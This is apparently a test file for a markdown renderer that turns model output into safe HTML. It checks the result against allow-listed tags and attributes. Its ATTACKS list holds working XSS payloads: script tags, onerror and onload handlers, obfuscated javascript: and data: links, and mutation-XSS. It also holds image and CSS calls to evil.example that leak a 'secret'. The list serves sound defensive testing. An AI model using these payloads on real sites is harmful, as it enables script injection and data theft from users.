"""Markdown in, safe HTML out: nothing that a model writes runs, loads or leaves the page by itself."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.api.markdown import render

TAGS = {
    *("h1", "h2", "h3", "h4", "h5", "h6", "p", "blockquote", "pre", "hr", "ul", "ol", "li", "table", "thead", "tbody"),
    *("tr", "th", "td", "a", "br", "code", "em", "img", "s", "strong"),
}
ATTRIBUTES = {
    "a": {"href", "title", "rel", "target"},
    "code": {"class"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "td": {"align"},
    "th": {"align"},
}
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![" onerror="alert(1)](data:image/png;base64,AAAA)',
    "![x](https://evil.example/?secret=1)",
    "![x](//evil.example/?secret=1)",
    "![x](/v1/conversations)",
    '```"><script>alert(1)</script>\nx\n```',
    "```x onclick=alert(1)\nx\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!-- --!> <img src=x onerror=alert(1)> -->",
]


class Reader(HTMLParser):
    """Reads rendered HTML as a browser would, and objects to all that is not on the list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()), (tag, name)
            if name == "href":
                assert value is not None
                assert value.lower().startswith(("https:", "http:", "mailto:")), value
            if name == "src":
                assert value is not None
                assert value.startswith(("data:image/png;", "data:image/jpeg;", "data:image/gif;", "data:image/webp;"))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def read(html: str) -> None:
    reader = Reader()
    reader.feed(html)
    reader.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_becomes_text_or_a_plain_link(attack: str) -> None:
    """Nothing of an attack is left but listed tags with listed attributes."""
    read(render(attack))
    read(render(f"> - {attack}\n\n**{attack}**"))


@given(st.lists(st.sampled_from([*ATTACKS, "\n\n", "> ", "- ", "`", "```\n", "|", "**", "[", "](", ")", "<", ">", "&"])))
def test_no_mixture_of_attacks_gets_through(pieces: list[str]) -> None:
    """Attacks glued together with markup in any order are as harmless as each alone."""
    read(render("".join(pieces)))


@given(st.text())
def test_any_text_renders(text: str) -> None:
    """Rendering never raises, whatever the model says."""
    read(render(text))


def test_raw_html_is_shown_as_written() -> None:
    """A tag in the text is words to read, not markup."""
    assert render("a <b>bold</b> tag") == "<p>a &lt;b&gt;bold&lt;/b&gt; tag</p>\n"


def test_links_open_in_a_new_tab_and_tell_nobody_whence() -> None:
    """A link carries target and rel; no referrer and no opener go with it."""
    link = 'href="https://a.example/?x=1&amp;y=2" target="_blank" rel="noopener noreferrer nofollow"'
    assert render("[a](https://a.example/?x=1&y=2)") == f"<p><a {link}>a</a></p>\n"


def test_a_bare_address_stays_text() -> None:
    """Linkify is off: only what the author marked as a link is one."""
    assert "<a" not in render("see https://a.example")


def test_a_far_picture_becomes_a_link_and_is_not_loaded() -> None:
    """The page asks no host for a picture that the model chose; the reader may."""
    html = render("![a chart](https://a.example/c.png)")
    assert "<img" not in html
    assert '<a href="https://a.example/c.png"' in html
    assert ">a chart</a>" in html


def test_a_picture_inside_a_link_keeps_only_its_words() -> None:
    """There is no link within a link."""
    html = render("[![badge](https://a.example/b.png)](https://b.example)")
    assert html.count("<a ") == 1
    assert 'href="https://b.example"' in html


def test_a_picture_whose_bytes_are_in_the_text_is_shown() -> None:
    """A data: picture contacts nobody."""
    assert render("![dot](data:image/png;base64,AAAA)") == '<p><img src="data:image/png;base64,AAAA" alt="dot"></p>\n'


def test_tables_keep_their_alignment_without_a_style() -> None:
    """The policy forbids style attributes, so alignment is the `align` attribute."""
    html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th align="center">a</th>' in html
    assert '<td align="right">2</td>' in html
    assert "style" not in html


def test_strikethrough_and_fences_render() -> None:
    """The two other extensions that answers use."""
    assert render("~~no~~") == "<p><s>no</s></p>\n"
    assert render("```py title=x\n1 < 2\n```") == '<pre><code class="language-py">1 &lt; 2\n</code></pre>\n'


def test_deep_nesting_and_long_brackets_end_in_good_time() -> None:
    """Text that is built to be slow is not: no rule is quadratic in what a model can send."""
    for attack in ("> " * 20_000, "- " * 20_000, "[" * 20_000, "![" * 20_000, "*a_ " * 20_000, "`a" * 20_000):
        read(render(attack))
